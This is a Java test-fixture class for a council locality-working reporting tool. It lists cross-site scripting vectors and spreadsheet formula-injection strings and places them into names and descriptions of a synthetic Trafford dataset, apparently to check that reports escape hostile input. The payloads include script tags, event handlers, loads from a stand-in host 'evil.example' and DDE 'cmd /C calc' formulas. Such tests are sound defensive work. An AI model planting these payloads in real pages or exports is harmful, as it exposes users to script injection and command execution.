package org.localityworking.reporting;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.function.IntFunction;
import org.localityworking.core.config.CouncilConfigurations;
import org.localityworking.core.config.CouncilDefinition;
import org.localityworking.core.model.Asset;
import org.localityworking.core.model.AssetCategory;
import org.localityworking.core.model.Consent;
import org.localityworking.core.model.ConsentUse;
import org.localityworking.core.model.ContactDetails;
import org.localityworking.core.model.EngagementEvent;
import org.localityworking.core.model.EventKind;
import org.localityworking.core.model.LocalityProject;
import org.localityworking.core.model.Organisation;
import org.localityworking.core.model.OrganisationKind;
import org.localityworking.core.model.Person;
import org.localityworking.core.model.ProjectStatus;
import org.localityworking.core.model.Sector;
import org.localityworking.core.model.Story;
import org.localityworking.core.model.Tangibility;
import org.localityworking.examples.data.Dataset;
import org.localityworking.storage.StandardKinds;

/** XSS vectors and spreadsheet-formula strings, and a data set that puts them into names and descriptions. */
@SuppressWarnings({"UnicodeEscape", "EnumOrdinal"}) // escaped markup is one of the hostile inputs; categories cycle
final class HostileData {
    private HostileData() {
    }

    static final List<String> XSS = List.of(
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
            "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">click</a>", "<body onload=alert(1)>",
            "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mtext><script>x</script>",
            "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
            "<object data=//evil.example/x.swf>", "<embed src=//evil.example/x>", "<form action=//evil.example><button>",
            "<textarea>", "</textarea><script>alert(1)</script>", "<!--", "-->", "<![CDATA[x]]>", "</title><script>x</script>",
            "</style><script>x</script>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>", "<table><tr><td>cell</td></tr></table>", "<p>paragraph</p>", "<b>bold</b>",
            "&lt;script&gt;", "&#60;script&#62;", "&amp;", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
            "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=\"x\" onerror=\"alert(1)\"/>",
            "<svg/onload=alert(1)>", "<x onclick=alert(1)>x</x>", "[link](javascript:alert(1))", "![img](https://evil.example/x.png)",
            "<https://evil.example>", "**bold** _em_ `code`", "# heading", "- list item", "1. numbered", "> quote",
            "| table | cell |", "---", "<div style=\"position:fixed\">x</div>", "\u003cscript\u003ealert(1)\u003c/script\u003e",
            "<\u0000script>".replace('\u0000', ' '), "%3Cscript%3Ealert(1)%3C/script%3E");

    static final List<String> CSV = List.of("=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+SUM(A1:A2)",
            "-2+3", "@SUM(1,1)", "\tTabbed", "\rCarriage", "'quoted", "''twice", "a,b,c", "\"quoted\"", "line\nbreak",
            "line\r\nbreak", "trailing space ", " leading space", "\u00e9\u4e2d\uD83C\uDF33", "DDE(\"cmd\";\"/C calc\";\"x\")",
            "=cmd|' /C calc'!A0", "plain");

    /** A Trafford data set whose names and descriptions are the given strings (or, when benign, neutral text). */
    static Dataset dataset(List<String> values, boolean benign) {
        CouncilDefinition def = CouncilConfigurations.trafford();
        IntFunction<String> v = i -> benign ? "value " + i : values.get(i);
        List<Dataset.Entry<?>> entries = new ArrayList<>();
        entries.add(new Dataset.Entry<>(StandardKinds.COUNCIL, def.council()));
        def.wards().forEach(w -> entries.add(new Dataset.Entry<>(StandardKinds.WARD, w)));
        def.localities().forEach(l -> entries.add(new Dataset.Entry<>(StandardKinds.LOCALITY, l)));
        for (int i = 0; i < values.size(); i++) {
            entries.add(new Dataset.Entry<>(StandardKinds.ORGANISATION, new Organisation("org-" + i, v.apply(i), Sector.VCSE,
                    OrganisationKind.COMMUNITY_GROUP, Optional.of("sale"))));
            entries.add(new Dataset.Entry<>(StandardKinds.ASSET, new Asset("asset-" + i, "sale", Optional.of("E05000835"),
                    v.apply(i), "About " + v.apply(i), AssetCategory.values()[i % 6], Tangibility.TANGIBLE,
                    Optional.empty(), false, org.localityworking.core.model.TransferStatus.NOT_APPLICABLE,
                    Optional.empty(), Optional.empty())));
            entries.add(new Dataset.Entry<>(StandardKinds.PERSON, new Person("person-" + i, v.apply(i), ContactDetails.none(),
                    Optional.empty(), List.of())));
            entries.add(new Dataset.Entry<>(StandardKinds.STORY, new Story("story-" + i, "sale", v.apply(i), v.apply(i),
                    List.of("person-" + i), Optional.of(v.apply(i)), LocalDate.of(2015, 10, 1), Optional.empty(),
                    List.of(new Consent("person-" + i, ConsentUse.PUBLICATION, LocalDate.of(2015, 10, 1), Optional.empty())))));
            entries.add(new Dataset.Entry<>(StandardKinds.PROJECT, new LocalityProject("project-" + i, "sale", v.apply(i),
                    v.apply(i), ProjectStatus.ACTIVE, Optional.empty(), List.of(), List.of(), List.of(v.apply(i)), List.of())));
            entries.add(new Dataset.Entry<>(StandardKinds.EVENT, new EngagementEvent("event-" + i, "sale", EventKind.OTHER,
                    v.apply(i), LocalDate.of(2015, 10, 1), OptionalInt.empty())));
        }
        return new Dataset("trafford", entries, List.of("test data"));
    }
}
